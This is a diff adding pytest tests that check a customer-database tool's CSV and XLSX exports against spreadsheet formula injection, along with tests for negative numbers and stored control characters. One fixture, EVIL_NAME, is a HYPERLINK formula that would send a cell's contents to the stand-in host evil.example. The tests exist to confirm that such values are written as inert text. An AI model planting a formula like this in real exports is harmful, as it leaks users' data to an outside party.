@@ -1,6 +1,8 @@
 """Export to CSV (UTF-8 with BOM) and XLSX, and the round trip back through import."""
 import csv
 import datetime as dt
+import io
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -112,3 +114,101 @@ def test_kehu_export_command(store, tmp_path, capsys):
     assert main(["--db", url, "export", "-o", str(out), "--query", "grade:"]) == 2
     assert main(["--db", url, "export", "-o", str(tmp_path / "x.txt")]) == 2
     assert ".csv or .xlsx" in capsys.readouterr().err
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
+FORMULA_LIKE = {"name": EVIL_NAME, "notes": "=SUM(A1:A2) 是备注，不是公式", "company": "+Plus 公司",
+                "department": "-2+3", "title": "@SUM(1,2)", "phone": "+1 650 253 0000",
+                "social": "'=quoted already", "external_id": "-5", "address": "'just a quote"}
+
+
+def formula_cells(path):
+    ws = openpyxl.load_workbook(path).active  # not data_only: a formula would show as one
+    return [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_text_that_looks_like_a_formula_is_written_as_text_and_comes_back(store, tmp_path, suffix):
+    first = store.create_customer({k: v for k, v in FORMULA_LIKE.items() if k in store.schema})
+    path = tmp_path / f"out{suffix}"
+    export(store, path)
+    if suffix == ".xlsx":
+        assert formula_cells(path) == []
+        ws = openpyxl.load_workbook(path).active
+        cell = ws["A2"]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_NAME, "s", True)
+    else:  # OWASP: a leading ' keeps a spreadsheet from running the cell
+        rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
+        assert rows[0]["Name"] == "'" + EVIL_NAME
+        assert rows[0]["Department"] == "'-2+3" and rows[0]["Title"] == "'@SUM(1,2)"
+        assert rows[0]["Phone"] == "'+1 650-253-0000"
+        assert rows[0]["Social accounts"] == "''=quoted already" and rows[0]["Address"] == "'just a quote"
+    source = open_source(path)
+    imported = run_import(store, source, auto_mapping(store.schema, source))
+    assert (imported.created, imported.rejected) == (1, 0), imported.problems
+    copy = store.customers().where(store.Customer.import_batch == imported.batch_id).get()
+    assert values_of(store, copy) == values_of(store, store.get_customer(first.id))
+
+
+SIGNED_SCHEMA = """
+extends: default
+fields:
+  - {key: balance, label: {en: Balance, zh: 余额}, type: money, group: business}
+  - {key: delta, label: {en: Delta, zh: 差值}, type: integer, group: business}
+  - {key: rate, label: {en: Rate, zh: 比率}, type: decimal, decimals: 3, group: business}
+"""
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_negative_numbers_stay_numbers_and_come_back(sqlite_url, tmp_path, suffix):
+    from kehu.models.store import Store
+
+    schema = tmp_path / "schema.yaml"
+    schema.write_text(SIGNED_SCHEMA, encoding="utf-8")
+    store = Store.open(sqlite_url, str(schema), user="tester")
+    store.create_customer({"name": "负数", "balance": "-1234.5", "delta": "-7", "rate": "-0.125"})
+    path = tmp_path / f"signed{suffix}"
+    export(store, path, columns=["name", "balance", "delta", "rate"])
+    if suffix == ".csv":  # a number is no formula: no quote, a spreadsheet keeps it a number
+        assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "负数,-1234.50,-7,-0.125"
+    else:
+        ws = openpyxl.load_workbook(path).active
+        assert [c.data_type for c in ws[2]] == ["s", "n", "n", "n"]
+    source = open_source(path)
+    imported = run_import(store, source, auto_mapping(store.schema, source))
+    assert (imported.created, imported.rejected) == (1, 0), imported.problems
+    copy = store.customers().where(store.Customer.import_batch == imported.batch_id).get()
+    assert (copy.balance, copy.delta, copy.rate) == (Decimal("-1234.50"), -7, Decimal("-0.125"))
+    store.close()
+
+
+def test_report_files_write_names_as_text(store, tmp_path):
+    from kehu.models import reports
+
+    customer = store.create_customer({"name": EVIL_NAME})
+    store.add_interaction(customer.id, "purchase", amount=100)
+    report = reports.run(store, "top")
+    path = tmp_path / "top.xlsx"
+    report.to_xlsx(path)
+    assert formula_cells(path) == []
+    names = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row
+             if c.value == EVIL_NAME]
+    assert [(c.data_type, c.quotePrefix) for c in names] == [("s", True)]
+    out = io.StringIO()
+    report.to_csv(out)
+    line = list(csv.reader(out.getvalue().splitlines()))[1]
+    assert line[:2] == ["1", "'" + EVIL_NAME] and line[5] == "100.00"
+
+
+def test_a_control_character_already_stored_does_not_stop_an_xlsx_export(sqlite_url, tmp_path):
+    """SQLite databases written before validation refused them may hold one."""
+    from kehu.models.store import Store
+
+    store = Store.open(sqlite_url, user="tester")
+    customer = store.create_customer({"name": "旧数据"})
+    store.Customer.update(notes="a\x00b\x1bc").where(store.Customer.id == customer.id).execute()
+    assert export(store, tmp_path / "old.xlsx").rows == 1
+    ws = openpyxl.load_workbook(tmp_path / "old.xlsx").active
+    notes = [c.value for c in ws[1]].index("Notes")
+    assert ws[2][notes].value == "abc"
+    store.close()
